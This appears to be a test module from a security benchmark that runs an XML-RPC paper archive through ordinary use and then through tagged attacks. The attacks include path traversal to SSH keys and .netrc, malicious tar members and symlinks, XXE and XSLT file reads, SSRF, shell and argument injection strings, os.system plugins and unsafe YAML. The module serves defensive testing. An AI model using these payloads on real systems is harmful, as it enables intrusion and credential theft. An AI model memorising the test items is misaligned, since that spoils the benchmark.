# SPDX-License-Identifier: Apache-2.0
"""An archive that is spoken to by XML-RPC."""
import http.client
import io
import json
import tarfile
import xmlrpc.client

from attackers import in_yaml
import stage

NOTE = "{0}\n{1}\n\nOf *{2}*.\n\n- one\n- two\n"
LIST = '<?xml version="1.0"?><list>{}</list>'
RAW = ".. raw:: html\n   :file: {0}\n"
EXCEPTIONS = (xmlrpc.client.Error, OSError, http.client.HTTPException)
DOCUMENT = """<xsl:stylesheet version="1.0"
 xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">
<x><xsl:copy-of select="document('{0}')"/></x></xsl:template>
</xsl:stylesheet>"""


class PaperArchive(stage.Service):
    """Papers, versions, pages and filters by XML-RPC (lxml, docutils)."""
    packages = ["python3-lxml", "python3-docutils", "python3-requests",
                "python3-yaml", "file"]

    def arrange(self):
        for name in ("shelf", "db", "old"):
            (self.srv / name).mkdir()
        stage.write(self.srv / "db/key", "not-" + self.secret, 0o600)

    def command(self):
        return [self.python, "archive.py", self.port("web")]

    # ------------------------------------------------------------ ordinary use
    def call(self, name, *words):
        """(status, text), as of a browser."""
        words = [xmlrpc.client.Binary(word) if isinstance(word, bytes)
                 else word for word in words]
        url = f"http://127.0.0.1:{self.port('web')}"
        try:
            with xmlrpc.client.ServerProxy(url, allow_none=True) as archive:
                answer = getattr(archive, name)(*words)
        except EXCEPTIONS as error:
            return 500, str(error).encode()
        if isinstance(answer, xmlrpc.client.Binary):
            return 200, answer.data
        return 200, (answer if isinstance(answer, str)
                     else json.dumps(answer, ensure_ascii=False)).encode()

    def does(self, found, name, *words, status=200):
        return self.expect_answer(f"{name} {words}", self.call(name, *words),
                                  found, status)

    def shelve(self, name, text, kind, *tags):
        self.does(kind, "put", name, text.encode(), list(tags))
        self.does(text, "get", name)

    def note(self, name, title):
        self.shelve(name, NOTE.format(title, "=" * 80, name), "text/plain",
                    "note", title)
        self.does("<li>one", "page", name)
        self.does(name, "find", title)
        self.does("2", "lines", name, "^-")

    def items(self, name, words, style):
        self.shelve(name, LIST.format("".join(
            f"<item>{word}</item>" for word in words)), "text/xml", "list")
        self.does(f"<li>{words[0]}", "styled", name, style)

    def bundles(self, folder, *names):
        packed = self.does(b"\x1f\x8b", "bundle", list(names))
        if packed:
            self.does(names[0].split("/")[-1], "unbundle", packed, folder)

    def fetch(self, path, name):
        self.site("library").page("*", "from elsewhere\n")
        self.does("text/plain", "fetched", self.site("library").url + path,
                  name)

    def train(self, day):
        self.does("put", "system.listMethods")
        self.note(f"diary-{day}.rst", f"Day {day}")
        self.note("plans/summer.rst", "Summer")
        self.note(f"people/anna/letter {day}.rst", "Letter")
        self.note("people/ben/minutes.rst", "Minutes")
        self.note("plans/summer.rst", f"Summer {day}")
        self.items(f"shopping-{day}.xml", ["bread", "milk"], "list.xsl")
        self.items("people/carla/stock.xml", ["nails"], "table.xsl")
        self.does("OF", "filtered", "plans/summer.rst", ["upper.py"])
        self.does("one", "filtered", f"diary-{day}.rst", ["wrap.py"])
        self.does("one", "filtered", f"diary-{day}.rst", ["wrap.py", "30"])
        self.does(":1", "filtered", "people/ben/minutes.rst", ["count.py"])
        self.fetch(f"/texts/{day}.txt", f"web/text-{day}.txt")
        self.fetch("/news", "web/news.txt")
        self.bundles(f"copies/{day}", f"diary-{day}.rst")
        self.bundles(f"copies/all-{day}", "plans/summer.rst",
                     "people/ben/minutes.rst")
        self.does("colour", "configured", f"colour: teal\npage: {day}\n")
        self.does("", "get", "none.rst", status=500)
        self.does("", "page", "none.rst", status=500)
        self.note("scrap.rst", "Scrap")
        self.does("true", "drop", "scrap.rst")

    def benign(self):
        self.note("people/Hans Peter/Größe & Maß.rst", "Maß")
        self.note("people/o.brien/2027/11/21/v1.2 (draft).rst", "Draft")
        self.note("people/Hans Peter/Größe & Maß.rst", "Maß")
        self.note("plans/4711.rst", "Autumn")
        self.note("plans/summer.rst", "Summer again")
        self.items("people/zoe-1/list.of.things.xml", ["a", "b", "c"] * 90,
                   "table.xsl")
        self.items("todo.xml", ["sleep"], "list.xsl")
        self.shelve("data/table.csv", "a,b\n1,2\n", "text/", "table")
        self.shelve("data/notes.md", "# x\n", "text/plain", "md")
        self.does("image/png", "put", "pictures/x.png", b"\x89PNG\r\n\x1a\n"
                  b"\0\0\0\rIHDR\0\0\0\1\0\0\0\1\10\2\0\0\0" + b"x" * 99,
                  ["picture"])
        self.does("OF", "filtered", "plans/4711.rst", ["upper.py"])
        self.does("one", "filtered", "plans/4711.rst", ["wrap.py", "72"])
        self.does(":1", "filtered", "people/o.brien/2027/11/21/"
                  "v1.2 (draft).rst", ["count.py"])
        self.fetch("/a/b/c.txt?day=2027-11-21&x=a%20b", "web/2027/c.txt")
        self.bundles("copies/2027-11-21/all", "plans/4711.rst", "todo.xml",
                     "people/o.brien/2027/11/21/v1.2 (draft).rst",
                     "pictures/x.png", "data/table.csv")
        self.does("a", "configured", "a: [1, 2, {b: c}]\n")
        self.does("", "configured", "a: [1\n", status=500)
        self.does("", "styled", "plans/4711.rst", "list.xsl", status=500)
        self.does("", "find", "it's", status=500)
        self.does("[]", "find", "nowhere")
        self.shelve("bad.rst", "A\n==\n\n.. code:: python\n\n  x = 1\n\n"
                    ".. contents::\n\n.. math:: a^2\n", "text/plain")
        self.does("title", "page", "bad.rst")
        self.does("true", "drop", "bad.rst")
        self.does("", "fetched", self.site("library").url[:-1] + "x", "y",
                  status=500)
        self.restart()
        self.note("plans/winter.rst", "Winter")

    def health(self):
        self.note("people/ben/minutes.rst", "Minutes")
        self.does(":1", "filtered", "people/ben/minutes.rst", ["count.py"])

    # ----------------------------------------------------------------- attacks
    def filters(self, code):
        """code: statements, in a filter that somebody shelved."""
        self.call("put", "people/ben/evil.py", code.encode(), ["x"])
        self.call("put", "people/ben/x.txt", b"x", ["x"])
        return self.call("filtered", "people/ben/x.txt",
                         ["../shelf/people/ben/evil.py"])

    def configures(self, code):
        return self.call("configured", in_yaml(code))

    @stage.attack("traversal")
    def paper_is_a_private_key(self):
        return self.is_told(self.call("get", "../../home/.ssh/id_rsa"))

    @stage.attack("secret disclosure")
    def paper_is_the_key(self):
        return self.is_told(self.call("get", "../db/key"))

    @stage.attack("source disclosure")
    def paper_is_the_source(self):
        return b"HOLE" in self.call("get", "../archive.py")[1]

    @stage.attack("traversal")
    def bundle_holds_the_payroll(self):
        packed = self.call("bundle", ["../../payroll/2026.csv"])[1]
        try:
            with tarfile.open(fileobj=io.BytesIO(packed)) as tar:
                return self.is_told(tar.extractfile(
                    tar.getmembers()[0]).read())
        except tarfile.TarError:
            return False

    @stage.attack("secret disclosure")
    def page_includes_a_password(self):
        self.call("put", "people/ben/x.rst", RAW.format(
            f"{self.home}/.netrc").encode(), [])
        return self.is_told(self.call("page", "people/ben/x.rst"))

    @stage.attack("SSRF")
    def page_includes_an_internal_service(self):
        def use(url):
            self.call("put", "people/ben/x.rst", RAW.replace(
                ":file:", ":url:").format(url).encode(), [])
            return self.call("page", "people/ben/x.rst")
        return self.fetches_inside(use)

    @stage.attack("SSRF")
    def text_is_an_internal_service(self):
        def use(url):
            self.call("fetched", url, "people/ben/x.txt")
            return self.call("get", "people/ben/x.txt")
        return self.fetches_inside(use)

    @stage.attack("SSRF")
    def text_is_redirected_inside(self):
        def use(url):
            self.call("fetched", url, "people/ben/x.txt")
            return self.call("get", "people/ben/x.txt")
        return self.is_redirected_inside("library", use)

    @stage.attack("secret disclosure")
    def entity_is_a_file(self):
        self.call("put", "people/ben/x.xml", (
            f'<!DOCTYPE l [<!ENTITY e SYSTEM "file://{self.place}/payroll/'
            '2026.csv">]><list><item>&e;</item></list>').encode(), [])
        return self.is_told(self.call("styled", "people/ben/x.xml",
                                      "list.xsl"))

    @stage.attack("secret disclosure")
    def style_reads_a_document(self):
        self.call("put", "people/ben/secret.xml", LIST.format("").encode(), [])
        stage.write(self.home / "keys.xml", f"<k>{self.secret}</k>")
        self.call("put", "people/ben/x.xsl", DOCUMENT.format(
            f"file://{self.home}/keys.xml").encode(), [])
        return self.is_told(self.call("styled", "people/ben/secret.xml",
                                      "../shelf/people/ben/x.xsl"))

    @stage.attack("write to code", fresh=True)
    def paper_replaces_a_filter(self):
        self.call("put", "../filters/upper.py", b"RESULT = 'planted'", [])
        return b"planted" in (self.srv / "filters/upper.py").read_bytes()

    @stage.attack("write to code", fresh=True)
    def bundle_replaces_the_archive(self):
        packed = io.BytesIO()
        with tarfile.open(fileobj=packed, mode="w:gz") as tar:
            member = tarfile.TarInfo("../archive.py")
            member.size = 7
            tar.addfile(member, io.BytesIO(b"planted"))
        self.call("unbundle", packed.getvalue(), "")
        return "planted" in (self.srv / "archive.py").read_text()

    @stage.attack("write to start-up file", fresh=True)
    def paper_replaces_the_profile(self):
        self.call("put", "../../home/.profile", b"planted", [])
        return "planted" in (self.home / ".profile").read_text()

    @stage.attack("symlink swap", fresh=True)
    def bundle_brings_a_link(self):
        packed = io.BytesIO()
        with tarfile.open(fileobj=packed, mode="w:gz") as tar:
            member = tarfile.TarInfo("people-x")
            member.type = tarfile.SYMTYPE
            member.linkname = str(self.home)
            tar.addfile(member)
        self.call("unbundle", packed.getvalue(), "")
        return self.is_told(self.call("get", "people-x/.netrc"))

    @stage.attack("command injection")
    def pattern_runs_a_command(self):
        self.note("people/ben/minutes.rst", "Minutes")
        return self.runs_line(lambda line: self.call(
            "lines", "people/ben/minutes.rst", f"x'; {line}; '"))

    @stage.attack("argument injection")
    def pattern_reads_another_file(self):
        self.note("people/ben/minutes.rst", "Minutes")
        return self.call("lines", "people/ben/minutes.rst",
                         f"boss' -h '{self.place}/payroll/2026.csv' -e '"
                         )[1].split()[:1] == [b"1"]

    @stage.attack("malicious plugin")
    def filter_runs_a_command(self):
        return self.runs_line(lambda line: self.filters(
            f"import os\nRESULT = os.system({line!r})"))

    @stage.attack("ctypes")
    def filter_calls_libc(self):
        return self.runs_libc(lambda code: self.filters(f"RESULT = {code}"))

    @stage.attack("unsafe yaml")
    def settings_run_a_command(self):
        return self.runs_line(lambda line: self.configures(
            f"import os; os.system({line!r})"))

    @stage.attack("fork+exec")
    def settings_fork(self):
        return self.forks(self.configures)

    @stage.attack("reverse shell")
    def settings_call_home(self):
        return self.calls_home(self.configures)

    @stage.attack("exfiltration")
    def settings_send_credentials(self):
        return self.steals(self.configures)
